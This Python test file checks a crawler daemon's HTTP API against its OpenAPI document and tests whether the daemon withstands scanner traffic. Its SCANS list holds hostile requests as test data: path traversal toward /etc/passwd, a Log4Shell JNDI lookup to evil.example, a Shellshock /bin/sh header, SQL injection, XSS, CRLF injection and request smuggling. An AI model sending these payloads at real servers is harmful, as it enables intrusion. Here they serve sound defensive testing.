"""The HTTP interface against what it says of itself, and against what scanners and broken peers send."""

import gzip
import http.client
import json
import re
import socket
import unittest
import urllib.parse

import daemon_test
import jsonschema
import programs
import server

DOCS = programs.TESTS.parent / "docs"
DOCUMENT = json.loads((DOCS / "openapi.json").read_text())
TOKEN = "0123456789abcdefghijABCDEFGHIJ"
HEADER_TIMEOUT_S = 0.5
QUERIES = {"/v1/captures": "url"}


RESOLVER = jsonschema.RefResolver("", DOCUMENT)
# What the document says of the parts of a report, by their names in report.schema.json.
PARTS_OF_A_REPORT = {"agency": "ReportAgency", "place": "Place", "cell": "ReportCell", "correction": "Correction",
                     "statement": "Statement", "check": "ReportCheck"}  # fmt: skip


def references(value):
    """All in a document, however deep."""
    if isinstance(value, dict):
        yield from [value["$ref"]] if isinstance(value.get("$ref"), str) else []
        value = list(value.values())
    for inner in value if isinstance(value, list) else []:
        yield from references(inner)


class DocumentTest(unittest.TestCase):
    def test_every_reference_leads_within_the_document(self):
        found = set(references(DOCUMENT))
        self.assertGreater(len(found), 10)
        for reference in found:
            self.assertTrue(reference.startswith("#/"), reference)
            value = DOCUMENT
            for step in reference.removeprefix("#/").split("/"):
                self.assertIn(step, value, reference)
                value = value[step]

    def test_the_parts_of_a_report_are_those_of_its_schema(self):
        report = json.loads((DOCS / "report.schema.json").read_text())
        text = json.dumps(report["$defs"])
        for name, component in PARTS_OF_A_REPORT.items():
            text = text.replace(f'"#/$defs/{name}"', f'"#/components/schemas/{component}"')
        for name, component in PARTS_OF_A_REPORT.items():
            self.assertEqual(DOCUMENT["components"]["schemas"][component], json.loads(text)[name], name)


def validator(path, method, status, kind):
    """What the document says of one answer; None where it is free."""
    content = DOCUMENT["paths"][path][method]["responses"][str(status)].get("content", {})
    schema = content.get(kind, content.get("*/*"))
    assert schema is not None, (path, status, kind)
    free = "schema" not in schema or kind == "text/plain"
    return None if free else jsonschema.Draft202012Validator(schema["schema"], resolver=RESOLVER)


class ApiCase(programs.SiteCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.server = cls.enterClassContext(server.SiteServer())
        cls.host = cls.server.site.hosts["127.0.0.3"]
        cls.ground = programs.Ground([cls.host.entry()], listen=programs.free_address())
        cls.addClassCleanup(cls.ground.close)
        tokens = cls.ground.folder / "tokens"
        tokens.write_text(f"tester {TOKEN}\n")
        tokens.chmod(0o600)
        # The tables of a file go behind [crawl]; keys of [api] stand in the line of `listen`.
        cls.ground.write()
        text = cls.ground.config.read_text().replace("[crawl]", cls.api_keys + "[crawl]")
        cls.ground.config.write_text(text)
        cls.daemon = cls.enterClassContext(daemon_test.Running(cls.ground))
        programs.until(lambda: len(cls.lines("/v1/reports")) == len(cls.host.reports))

    api_keys = f'token_file = "tokens"\nheader_timeout_ms = {int(HEADER_TIMEOUT_S * 1000)}\n' \
               'cors_origins = ["https://reader.example"]\nconnections_per_address_max = 40\n'  # fmt: skip

    @classmethod
    def ask(cls, target, method="GET", body=None, **headers):
        connection = http.client.HTTPConnection(cls.ground.listen, timeout=programs.PATIENCE_S)
        try:
            names = {name.replace("_", "-"): value for name, value in headers.items()}
            connection.request(method, target, body=body, headers=names)
            answer = connection.getresponse()
            return answer.status, answer.headers, answer.read()
        finally:
            connection.close()

    @classmethod
    def lines(cls, target):
        return [json.loads(line) for line in cls.ask(target)[2].splitlines()]

    def exchange(self, sent, patience=programs.PATIENCE_S):
        """Sends bytes as they are and reads until the daemon closes; nothing may keep it from that."""
        host, port = self.ground.listen.split(":")
        with socket.create_connection((host, int(port)), timeout=patience) as peer:
            try:
                peer.sendall(sent)
                got = b""
                while piece := peer.recv(65536):
                    got += piece
                return got
            except ConnectionResetError:
                return got


class Documented(ApiCase):
    def test_what_is_served_is_documented_and_the_other_way_round(self):
        served = {(line["path"], line["method"].lower()) for line in self.lines("/v1/resources")}
        documented = {(path, method) for path, methods in DOCUMENT["paths"].items() for method in methods}
        self.assertEqual(served, documented)
        self.assertEqual(json.loads(self.ask("/v1/openapi.json")[2]), DOCUMENT)

    def target(self, path):
        report = self.lines("/v1/reports")[0]
        cell = next(iter(report["cells"]))
        parts = {"agency": report["agency"]["name"], "year": report["year"], "cell": cell}
        found = re.sub(r"\{(\w+)\}", lambda m: urllib.parse.quote(str(parts.get(m[1], "none"))), path)
        return found + ("?url=" + urllib.parse.quote(report["source_url"]) if path in QUERIES else "")

    def check(self, path, operation, status, headers, body):
        self.assertIn(str(status), operation["responses"], path)
        response = operation["responses"][str(status)]
        for name in response.get("headers", {}):
            self.assertIn(name, headers, path)
        self.assertEqual(headers["X-Content-Type-Options"], "nosniff", path)
        self.assertEqual(headers["Server"], "ogid", path)
        self.assertRegex(headers["Date"], r" GMT$")
        kind = headers["Content-Type"].split(";")[0]
        schema = validator(path, "get", status, kind)
        if schema is None:
            return
        values = [json.loads(line) for line in body.splitlines()] if kind == "application/x-ndjson" else [json.loads(body)]
        for value in values:
            schema.validate(value)

    def test_every_answer_is_as_documented(self):
        operators = {"Authorization": f"Bearer {TOKEN}"}
        for path, methods in DOCUMENT["paths"].items():
            if "get" not in methods:
                continue
            with self.subTest(path):
                operation = methods["get"]
                answer = self.ask(self.target(path), **(operators if "security" in operation else {}))
                self.check(path, operation, *answer)
                if "{" not in path:
                    self.assertEqual(answer[0], 200, answer[2])
                if "security" in operation:
                    for wrong in ({}, {"Authorization": "Bearer no-such-token-at-all-here"}):
                        self.check(path, operation, *self.ask(self.target(path), **wrong))

    def test_every_parameter_that_nobody_knows_is_refused(self):
        for path, methods in DOCUMENT["paths"].items():
            if "400" not in methods.get("get", {}).get("responses", {}):
                continue
            with self.subTest(path):
                target = self.target(path)
                status, headers, body = self.ask(target + ("&" if "?" in target else "?") + "agncy=a")
                self.assertEqual((status, headers["Content-Type"]), (400, "application/problem+json"), body)
                self.check(path, methods["get"], status, headers, body)

    def test_orders_are_for_those_who_may(self):
        for path, methods in DOCUMENT["paths"].items():
            for method in set(methods) - {"get"}:
                with self.subTest(path):
                    self.assertIn("security", methods[method])
                    target = self.target(path)
                    self.assertEqual(self.ask(target, method.upper())[0], 403)
                    status, headers, _ = self.ask(target, method.upper(), Authorization="Bearer wrong-wrong-wrong-wrong")
                    self.assertEqual((status, headers["WWW-Authenticate"]), (401, "Bearer"))
        status, _, body = self.ask("/v1/pause?host=a.example", "POST", Authorization=f"Bearer {TOKEN}")
        self.assertEqual(status, 200, body)
        self.assertEqual(self.lines("/v1/paused"), [{"paused": "a.example"}])
        self.assertEqual(self.ask("/v1/resume?host=a.example", "POST", Authorization=f"Bearer {TOKEN}")[0], 200)
        log = (self.ground.folder / "ogid.log").read_text()
        self.assertRegex(log, r"order taken method=POST path=/v1/pause token=tester address=127\.0\.0\.1")
        self.assertNotIn(TOKEN, log)


class Answers(ApiCase):
    def test_what_is_known_is_not_sent_again(self):
        for target in ("/v1/reports", self.one(), "/v1/changes?limit=1"):
            status, headers, body = self.ask(target)
            tag = headers["ETag"]
            if tag is None:
                continue
            status, headers, rest = self.ask(target, If_None_Match=f'"x", {tag}')
            self.assertEqual((status, rest, headers["ETag"]), (304, b"", tag), target)
            self.assertEqual(self.ask(target, If_None_Match='"x"')[2], body)
        status, headers, packed = self.ask("/v1/reports", Accept_Encoding="gzip")
        self.assertEqual(headers["Content-Encoding"], "gzip")
        self.assertEqual(gzip.decompress(packed), self.ask("/v1/reports")[2])
        self.assertIn("Accept-Encoding", headers["Vary"])

    def one(self, end=""):
        report = self.lines("/v1/reports")[0]
        return f"/v1/reports/{urllib.parse.quote(report['agency']['name'])}/{report['year']}{end}"

    def test_pages_follow_each_other_and_lose_nothing(self):
        for target in ("/v1/reports", "/v1/pages"):
            whole, pages, at = self.lines(target), [], target + "?limit=1"
            key = "url" if target == "/v1/pages" else "source_url"
            while at:
                _, headers, body = self.ask(at)
                pages += [json.loads(line) for line in body.splitlines()]
                self.assertLessEqual(len(body.splitlines()), 1)
                at = headers["Link"] and re.fullmatch(r'<(.*)>; rel="next"', headers["Link"])[1]
            self.assertEqual([line[key] for line in pages], [line[key] for line in whole])

    def test_head_and_options_say_what_get_would(self):
        for target in ("/v1/reports", "/healthz", self.one()):
            got, head = self.ask(target), self.ask(target, "HEAD")
            self.assertEqual((head[0], head[2]), (200, b""))
            self.assertEqual(head[1]["ETag"], got[1]["ETag"])
            self.assertEqual(head[1]["Content-Length"], got[1]["Content-Length"])
        status, headers, _ = self.ask("/v1/limits", "OPTIONS")
        self.assertEqual((status, headers["Allow"]), (204, "GET, HEAD, POST, OPTIONS"))
        status, headers, body = self.ask("/v1/reports", "DELETE")
        self.assertEqual((status, headers["Allow"]), (405, "GET, HEAD, OPTIONS"), body)

    def test_only_pages_of_configured_sites_may_read(self):
        allowed = "Access-Control-Allow-Origin"
        self.assertEqual(self.ask("/v1/status", Origin="https://reader.example")[1][allowed], "https://reader.example")
        for other in ("https://evil.example", "null", "https://reader.example.evil.example"):
            self.assertIsNone(self.ask("/v1/status", Origin=other)[1][allowed])
        preflight = self.ask("/v1/status", "OPTIONS", Origin="https://reader.example", Access_Control_Request_Method="GET")
        self.assertIn("GET", preflight[1]["Access-Control-Allow-Methods"])

    def test_a_cell_leads_to_its_bytes(self):
        report = self.lines("/v1/reports")[0]
        for name, cell in report["cells"].items():
            if cell["kind"] == "number" and cell.get("at", {}).get("bytes"):
                break
        line = self.lines(self.one(f"/cells/{name}"))[0]
        self.assertEqual((line["value"], line["raw"]), (cell["value"], cell["raw"]))
        status, headers, body = self.ask(line["source"])
        self.assertEqual(status, 200)
        self.assertIn("sandbox", headers["Content-Security-Policy"])
        begin, end = line["at"]["bytes"]
        self.assertIn(line["raw"].encode(), body[begin:end])
        self.assertEqual(headers["X-Source-Digest"], line["snapshot"])
        self.assertEqual(self.ask(self.one("/source?part=7"))[0], 404)
        self.assertEqual(self.ask(self.one("/cells/none"))[0], 404)
        self.assertEqual([check["id"] for check in self.lines(self.one("/checks"))], [c["id"] for c in self.lines(self.one())[0]["checks"]])  # fmt: skip
        self.assertEqual(self.ask(self.one("/revisions"))[2], self.ask(self.one("/history"))[2])

    def test_coverage_counts_every_report_once(self):
        reports, coverage = self.lines("/v1/reports"), self.lines("/v1/coverage")
        there = sum(state != "missing" for line in coverage for state in line["years"].values())
        self.assertEqual(there, len(reports))
        regions = self.lines("/v1/coverage?by=region")
        self.assertEqual(sum(line[state] for line in regions for state in ("verified", "consistent", "inconsistent", "unverifiable", "withdrawn")), there)  # fmt: skip
        # The command says the same, by the daemon and by the store itself.
        alone = self.ground.folder / "alone.toml"
        alone.write_text(self.ground.config.read_text().replace("[api]", '[api]\nsocket = "nobody.sock"'))
        for config in (self.ground.config, alone):
            ask = [programs.BIN / "ogi", "--config", config, "coverage", "-o", "json"]
            self.assertEqual(json.loads(programs.run(*ask).stdout), coverage)
            self.assertEqual(json.loads(programs.run(*ask, "--by", "region").stdout), regions)
            (line, *_) = coverage
            chosen = json.loads(programs.run(*ask, "--agency", line["agency"], "--year", next(iter(line["years"]))).stdout)
            self.assertEqual([one["agency"] for one in chosen], [line["agency"]])

    def test_it_tells_how_it_is(self):
        self.assertEqual(json.loads(self.ask("/readyz")[2]), {"ready": True, "reasons": []})
        text = self.ask("/metrics")[2].decode()
        for line in text.splitlines():
            self.assertRegex(line, r'^(# (HELP|TYPE) ogid_\w+ .+|ogid_\w+(\{\w+="[^"]*"(,\w+="[^"]*")*\})? \S+)$')
        families = re.findall(r"(?m)^# TYPE (\w+)", text)
        self.assertEqual(len(families), len(set(families)), families)  # Prometheus refuses one that comes twice.
        self.assertRegex(text, r'(?m)^ogid_api_requests_total\{resource="/readyz",status="200"\} [1-9]')
        self.assertRegex(text, r'(?m)^ogid_visits_total\{outcome="changed"\} [1-9]')


def request(target, more="", method="GET", host="localhost"):
    return f"{method} {target} HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n".encode()


# What scanners send, and the status that it gets.
SCANS = [
    (request("/../../../../etc/passwd"), 400), (request("/..%2f..%2f..%2fetc/passwd"), 404),
    (request("/%2e%2e/%2e%2e/etc/passwd"), 400), (request("/v1/..;/manager/html"), 404), (request("//etc/passwd"), 400),
    (request("/v1/reports/%00/2020"), 400), (request("/v1/reports/..%5c..%5cboot.ini/2020"), 400),
    (request("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), 400), (request("/v1/reports/a%0d%0aSet-Cookie:%20a=b/2020"), 400),
    (request("/.git/config"), 404), (request("/.env"), 404), (request("/wp-login.php"), 404), (request("/actuator/env"), 404),
    (request("/cgi-bin/.%2e/.%2e/bin/sh", method="POST"), 400), (request("/phpmyadmin/index.php?lang=en"), 404),
    (request("/?XDEBUG_SESSION_START=phpstorm"), 404), (request("/v1/reports?agency=%27%20OR%201=1--"), 200),
    (request("/v1/reports?agency=<script>alert(1)</script>"), 400), (request("/v1/reports?agency=%3Cscript%3E"), 200),
    (request("/v1/reports?limit=99999999999999999999999"), 400), (request("/v1/reports?limit=-1"), 400),
    (request("/v1/reports?year=1e9"), 400), (request("/v1/reports/x/99999999999999999999"), 400),
    (request("/${jndi:ldap://evil.example/a}"), 400), (request("/v1/status", "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n"), 200),
    (request("/v1/status", "User-Agent: () { :; }; /bin/sh\r\n"), 200), (request("http://evil.example/v1/status"), 400),
    (request("evil.example:443", method="CONNECT"), 400), (request("/v1/status", method="TRACE"), 405),
    (request("/v1/status", method="TRACK"), 405), (request("/v1/status", method="PROPFIND"), 405), (request("/v1/status", method="get"), 405),
    (request("/v1/recrawl"), 405), (request("/v1/recrawl", "X-HTTP-Method-Override: POST\r\n"), 405),
    (request("/v1/recrawl", "Content-Length: 0\r\n", "POST"), 403), (request("/v1/recrawl", "Content-Length: 5\r\n", "POST"), 413),
    (request("/v1/status", host="evil.example"), 421), (request("/v1/status", host="127.0.0.1.nip.example"), 421),
    (request("/v1/status", host="localhost@evil.example"), 421), (request("/v1/status", "Host: evil.example\r\n"), 400),
    (b"GET /v1/status HTTP/1.1\r\n\r\n", 400), (request("/v1/status", "X-Forwarded-Host: evil.example\r\n"), 200),
    (request("/v1/status", "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", "POST") + b"0\r\n\r\n", 400),
    (request("/v1/status", "Content-Length: 1\r\nContent-Length: 2\r\n"), 400), (request("/v1/status", "X: a\r\n b\r\n"), 400),
    (request("/v1/status", "Transfer-Encoding : chunked\r\n"), 400), (request("/v1/status").replace(b"\r\n", b"\n"), 400),
    (b"GET /v1/status\r\n", 400), (b"GET / HTTP/0.9\r\n\r\n", 505), (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 505),
    (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500), 400), (b"\x03\x00\x00\x13\x0e\xe0\x00\x00\r\n", 400),
    (b"SSH-2.0-Go\r\n", 400), (b"*1\r\n$4\r\nINFO\r\n", 400), (b"\x00" * 100, 400), (b"\xff" * 100, 400),
    (request("/" + "a" * 9000), 414), (request("/v1/status", "X: " + "a" * 40000 + "\r\n"), 431),
    (request("/v1/status", "".join(f"X-{i}: a\r\n" for i in range(100))), 431), (b"A" * 50000, 400),
    (b"GET /" + b"a" * 50000, 414), (request("/v1/reports", "Range: bytes=0-,0-,0-\r\n"), 200),
    (request("/v1/status", "Content-Length: 99999999999999\r\n"), 413), (request("/v1/status", "Upgrade: h2c\r\n"), 200),
    (b"GET /healthz HTTP/1.0\r\n\r\n", 200), (b"GET /v1/reports HTTP/1.0\r\n\r\n", 505),
]  # fmt: skip


class Survives(ApiCase):
    def test_what_scanners_send(self):
        for sent, status in SCANS:
            with self.subTest(sent[:80]):
                got = self.exchange(sent)
                self.assertTrue(got.startswith(b"HTTP/1.1 %d " % status), got[:300])
                if status >= 400:
                    self.assertIn(b"application/problem+json", got)
                for leak in (b"root:", b"Set-Cookie", b"evil.example/a", bytes(self.ground.folder)):
                    self.assertNotIn(leak, got)
        self.assertEqual(self.ask("/healthz")[0], 200)

    def test_a_head_that_comes_byte_by_byte_has_one_time(self):
        host, port = self.ground.listen.split(":")
        with socket.create_connection((host, int(port)), timeout=programs.PATIENCE_S) as peer:
            peer.sendall(b"GET /v1/status HTTP/1.1\r\n")
            peer.settimeout(HEADER_TIMEOUT_S / 20)

            def closed():
                try:
                    peer.sendall(b"X")  # Each byte in time for itself.
                    return peer.recv(1) == b""
                except TimeoutError:
                    return False
                except OSError:
                    return True

            programs.until(closed)
        self.assertIn('reason="header_timeout"', self.ask("/metrics")[2].decode())

    def test_requests_in_a_row_are_answered_in_order(self):
        keep = b"GET /v1/nothing HTTP/1.1\r\nHost: localhost\r\n\r\nHEAD /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
        got = self.exchange(keep * 20 + request("/healthz"))
        self.assertEqual(re.findall(rb"HTTP/1.1 (\d+) ", got), [b"404", b"200"] * 20 + [b"200"])

    def test_one_address_does_not_take_all_and_the_operator_gets_in(self):
        host, port = self.ground.listen.split(":")
        open_ones = [socket.create_connection((host, int(port))) for _ in range(60)]
        try:
            programs.until(lambda: b"503" in self.exchange(request("/healthz")))
            self.assertEqual(self.ground.ogi("status").returncode, 0)
        finally:
            for one in open_ones:
                one.close()
        programs.until(lambda: b" 200 " in self.exchange(request("/healthz")))

    def test_a_thousand_who_send_half_a_request_and_go(self):
        host, port = self.ground.listen.split(":")
        for number in range(1000):
            with socket.create_connection((host, int(port))) as peer:
                peer.sendall(b"POST /v1/decisions HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9"[: number % 64])
        programs.until(lambda: b" 200 " in self.exchange(request("/healthz")))


if __name__ == "__main__":
    unittest.main()
